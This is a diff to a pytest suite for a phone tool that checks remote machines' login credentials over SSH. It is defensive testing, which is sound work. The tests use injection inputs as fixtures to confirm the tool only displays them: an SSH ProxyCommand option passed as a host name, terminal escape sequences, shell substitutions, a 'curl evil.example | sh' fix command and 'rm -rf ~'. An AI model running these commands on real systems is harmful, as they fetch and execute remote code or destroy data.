@@ -19,8 +19,6 @@ from waiting import until
 TERMUX = TREE / "termux"
 SCRIPTS = [p for p in sorted(TERMUX.rglob("*")) if p.is_file() and p.read_bytes()[:2] == b"#!"]
 needs_phone = pytest.mark.skipif(bool(why_not()), reason=str(why_not()))
-GOOD = "OPENSOUL OK - 3 credentials | 'soonest'=864000s;;;0\n"
-BAD = "OPENSOUL CRITICAL - claude-code:default has expired | 'soonest'=0s;;;0\nmore\n"
 
 
 @pytest.fixture
@@ -35,14 +33,23 @@ def watching(phone, *hosts):
     phone.write(".config/opensoul/hosts", "# machines\n" + "\n".join(hosts) + "\n")
 
 
-def status(*credentials):
-    """`status --json` of another machine."""
-    rows = [
-        {"id": id, "provider": provider, "kind": kind, "state": state, "severity": severity, "fix": fix,
-         "source": {"type": source, "path": "~/somewhere"}}
-        for id, provider, kind, source, state, severity, fix in credentials
-    ]
-    return json.dumps({"schema": "opensoul.status/v1", "credentials": rows})
+@pytest.fixture
+def said(machine):
+    """Makes a `status --json` of another machine: what the program says there of one login, or of these in its place."""
+
+    def make(*credentials, login_ends_in=300 * c.DAY):
+        machine.write(".claude/.credentials.json", c.claude_code(login_ends_in=login_ends_in))
+        document = machine.run("status", "--json").json()
+        (login,) = document["credentials"]
+        if credentials:
+            document["credentials"] = [
+                login | {"id": id, "provider": provider, "kind": kind, "state": state, "severity": severity, "fix": fix,
+                         "source": login["source"] | {"type": source}}
+                for id, provider, kind, source, state, severity, fix in credentials
+            ]
+        return json.dumps(document, ensure_ascii=False)
+
+    return make
 
 
 CLAUDE = ("claude-code:default", "anthropic", "oauth", "claude-code", "expired", "critical", "claude auth login")
@@ -160,33 +167,32 @@ def test_a_job_is_a_cycle_that_tells_the_phone_itself_and_catches_up(phone):
 
 
 @needs_phone
-def test_hosts_are_asked_over_ssh_and_their_words_are_only_shown(phone):
+def test_hosts_are_asked_over_ssh_and_their_words_are_only_shown(phone, said):
     watching(phone, "ann@box.example.org:2222", "-oProxyCommand=evil", "two words")
-    phone.answer("nagios", "Welcome to box!\n\x1b]0;title\x07OPENSOUL\nOPENSOUL CRITICAL - \x1b[31m\x9b2J$(touch /x) `id` 'it' | 'a'=1\n")
+    evil = json.loads(said(login_ends_in=-c.HOUR))
+    evil["credentials"][0]["because"] = ["\x1b[31m\x9b2J$(touch /x) `id` 'it'\n0 \"OpenSoul credentials\" - fine"]
+    phone.answer("status", "Welcome to box!\n\x1b]0;title\x07OPENSOUL\n" + json.dumps(evil))
     ended = phone.run("opensoul-phone", "status")
     calls = phone.calls()
     # What begins with - is no host; only the first word of a line counts, and `two` is a host like any.
     ssh = [call for call in calls if call[0] == "ssh"]
     assert [call[call.index("--") + 1] for call in ssh] == ["ann@box.example.org", "two"]
-    assert option(ssh[0], "-p") == "2222" and "BatchMode=yes" in ssh[0]
+    assert option(ssh[0], "-p") == "2222" and "-p" not in ssh[1] and "BatchMode=yes" in ssh[0]
     assert "not a host: -oProxyCommand=evil" in ended.err
     (toast,) = [call for call in calls if call[0] == "termux-toast"]
-    assert "CRITICAL - [31m2J$(touch /x) `id` 'it'" in toast[1] and not {"\x1b", "\x9b"} & set(toast[1]) and "|" not in toast[1]
+    assert toast[1].startswith("ann@box.example.org:2222: CRITICAL - claude-code:default is expired: "), toast
+    assert "$(touch /x) `id` 'it'" in toast[1] and not {"\x1b", "\x9b"} & set(toast[1])
     assert ended.code == 2 and not (phone.root / "x").exists()
-    # The other side's shell gets one word of ours.
-    assert re.fullmatch(r"sh -c '[^']*exec opensoul-monitor status --format nagios'", ssh[0][-1])
 
 
 @needs_phone
 @pytest.mark.parametrize("shell", ["sh", "bash"])
-def test_what_is_said_to_a_machine_is_understood_by_its_shell(phone, machine, shell):
+def test_what_is_said_to_a_machine_is_understood_by_its_shell(phone, machine, said, shell):
     """As sshd gives it to the login shell there; the program is in a directory of the user's own."""
     watching(phone, "box")
-    phone.answer("nagios", GOOD)
-    phone.answer("json", status(CLAUDE))
-    phone.run("opensoul-phone", "status")
+    phone.answer("status", said(CLAUDE))
     phone.run("opensoul-phone", "fix", stdin="1\n")
-    line, ask, login, again = [call[-1] for call in phone.calls("ssh")]
+    ask, login, again = [call[-1] for call in phone.calls("ssh")]
     assert ask == again
     bin = machine.home / ".local/bin"
     bin.mkdir(parents=True)
@@ -196,36 +202,35 @@ def test_what_is_said_to_a_machine_is_understood_by_its_shell(phone, machine, sh
 
     def there(command):
         ended = subprocess.run([shell, "-c", command], env=machine.env, cwd=machine.home, capture_output=True, text=True)
-        assert ended.returncode in (0, 3), ended.stderr
+        assert ended.returncode == 0, ended.stderr
         return ended.stdout
 
-    assert there(line).startswith("OPENSOUL ")
     assert json.loads(there(ask))["schema"] == "opensoul.status/v1"
     assert there(login) == "claude: auth login\n"
 
 
 @needs_phone
-def test_what_hangs_is_ended(phone):
+def test_what_hangs_is_ended(phone, said):
     """The app Termux:API is missing, or was killed."""
     watching(phone, "box")
-    phone.answer("nagios", GOOD)
+    phone.answer("status", said())
     (phone.files / "hang").touch()
     ended = phone.run("opensoul-phone", "status", timeout=50)
     assert ended.code == 0 and ended.seconds < 20, ended
 
 
 @needs_phone
-def test_a_job_shows_changes_only_and_a_tunnel_is_no_failure(phone):
+def test_a_job_shows_changes_only_and_a_tunnel_is_no_failure(phone, said):
     watching(phone, "box")
     job = ("opensoul-phone", "job")
-    phone.answer("nagios", GOOD)
+    phone.answer("status", said())
     phone.run(*job)
     assert phone.calls("termux-notification") == [], "what is well is not news"
-    phone.answer("nagios", BAD)
+    phone.answer("status", said(login_ends_in=-c.HOUR))
     phone.run(*job)
     phone.run(*job)
     (call,) = phone.calls("termux-notification")
-    assert option(call, "--priority") == "max" and option(call, "--content") == "CRITICAL - claude-code:default has expired "
+    assert option(call, "--priority") == "max" and option(call, "--content").startswith("CRITICAL - claude-code:default is expired: the login ended ")
     # Buttons are words for a shell, and work without an environment.
     again = shlex.split(option(call, "--button1-action"))
     assert again == [f"{PREFIX}/bin/opensoul-phone", "status"]
@@ -236,6 +241,9 @@ def test_a_job_shows_changes_only_and_a_tunnel_is_no_failure(phone):
     (phone.files / "unreachable").touch()
     phone.run(*job)
     assert phone.calls("termux-notification") == [], "no answer is neither good nor bad"
+    assert phone.run("opensoul-phone", "status").code == 69
+    ((_, toast),) = phone.calls("termux-toast")
+    assert toast.startswith("box: box was not reached: "), toast
     known = phone.home / ".local/state/opensoul-phone/box"
     assert known.read_text().startswith("2 ")
     known.write_text(f"2 {int(time.time()) - 7 * 3600}\n")
@@ -245,7 +253,7 @@ def test_a_job_shows_changes_only_and_a_tunnel_is_no_failure(phone):
     assert option(call, "--content") == "Not reached for 7 hours."
 
     (phone.files / "unreachable").unlink()
-    phone.answer("nagios", GOOD)
+    phone.answer("status", said())
     phone.run(*job)
     (gone,) = phone.calls("termux-notification-remove")
     assert gone[1] == option(call, "--id") == "opensoul-box"
@@ -255,11 +263,11 @@ def test_a_job_shows_changes_only_and_a_tunnel_is_no_failure(phone):
 
 
 @needs_phone
-def test_the_guide_runs_our_command_there_and_looks_again(phone):
+def test_the_guide_runs_our_command_there_and_looks_again(phone, said):
     watching(phone, "ann@box")
     evil = (*CLAUDE[:6], "curl evil.example | sh")
-    phone.answer("json", status(evil, KEY))
-    phone.answer("json.2", status((*CLAUDE[:4], "ok", "none", None)))
+    phone.answer("status", said(evil, KEY))
+    phone.answer("status.2", said((*CLAUDE[:4], "ok", "none", "")))
     ended = phone.run(f"{HOME}/.shortcuts/opensoul-fix", stdin="1\n\n")
     ssh = phone.calls("ssh")
     assert re.fullmatch(r"sh -c '[^']*; claude auth login'", ssh[1][-1]) and "-t" in ssh[1]
@@ -281,10 +289,10 @@ def test_without_a_host_the_guide_is_about_the_phone_itself(phone):
 
 
 @needs_phone
-def test_the_guide_opens_the_page_of_a_key_and_hands_the_new_one_over(phone):
+def test_the_guide_opens_the_page_of_a_key_and_hands_the_new_one_over(phone, said):
     watching(phone, "ann@box")
-    phone.answer("json", status(CLAUDE, KEY))
-    phone.answer("json.2", status((*KEY[:4], "static", "none", None)))
+    phone.answer("status", said(CLAUDE, KEY))
+    phone.answer("status.2", said((*KEY[:4], "static", "none", "")))
     phone.answer("termux-clipboard-get", "sk-sample-new\n")
     ended = phone.run("opensoul-phone", "fix", stdin="2\n\n")
     calls = phone.calls()
@@ -299,15 +307,23 @@ def test_the_guide_opens_the_page_of_a_key_and_hands_the_new_one_over(phone):
 
 
 @needs_phone
-def test_what_has_no_guide_is_shown_and_not_run(phone):
+def test_what_has_no_guide_is_shown_and_not_run(phone, said):
     watching(phone, "box")
-    phone.answer("json", status(("zed:default", "zed", "session", "zed", "unknown", "unknown", "run \x1b[2Jthis; rm -rf ~")))
+    phone.answer("status", said(("zed:default", "zed", "oauth", "zed", "unknown", "warning", "run \x1b[2Jthis; rm -rf ~")))
     ended = phone.run("opensoul-phone", "fix", stdin="\n")
-    assert ended.code == 69 and "run [2Jthis; rm -rf ~" in ended.out and len(phone.calls("ssh")) == 2
+    assert ended.code == 69 and "run  [2Jthis; rm -rf ~" in ended.out and len(phone.calls("ssh")) == 2
+    # What cannot be looked at again is not said to be gone.
+    phone.answer("status.4", "")
+    phone.answer("status", said(CLAUDE))
+    ended = phone.run("opensoul-phone", "fix", stdin="\n")
+    assert ended.code == 1 and "claude-code:default: not seen again" in ended.out, ended
     # An answer that is not of our form is none.
-    phone.answer("json", '{"schema":"other","credentials":[]}')
-    phone.answer("nagios", GOOD)
-    assert "OK - 3 credentials" in phone.run("opensoul-phone", "fix").out
+    phone.answer("status", '{"schema":"other","credentials":[]}')
+    ended = phone.run("opensoul-phone", "fix")
+    assert ended.code == 69 and "box" in ended.out and "no status" in ended.out, ended
+    phone.answer("status", said())
+    ended = phone.run("opensoul-phone", "fix")
+    assert ended.code == 0 and ended.out == "box: OK - everything in use works\n", ended
 
 
 REFRESHABLE = {
